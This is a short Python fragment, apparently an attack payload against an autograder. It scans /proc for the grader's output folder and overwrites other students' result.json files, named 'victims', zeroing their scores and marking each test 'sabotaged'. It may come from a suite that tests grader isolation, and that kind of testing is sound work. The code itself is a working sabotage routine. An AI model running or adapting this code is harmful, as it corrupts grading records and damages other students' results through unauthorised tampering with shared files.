# gkatk: find the output folder on a command line in /proc and rewrite other students' results
# (those of GKATK['victims']: the honest submission and one graded by an earlier batch)
import json
import os

folders = _gk_out_from_proc()
if not folders:
    raise RuntimeError("gkatk: no output folder on any command line in /proc")
for out in folders:
    for name in sorted(os.listdir(out)):
        path = os.path.join(out, name, "result.json")
        if name in GKATK["victims"] and os.path.isfile(path):
            with open(path) as f:
                result = json.load(f)
            result["score"] = 0
            for test in result["tests"]:
                test.update(earned=0, status="failed", message="gkatk: sabotaged")
            for notebook in result["notebooks"].values():
                notebook["score"] = 0
            with open(path, "w") as f:
                json.dump(result, f)
            print("rewrote", path)
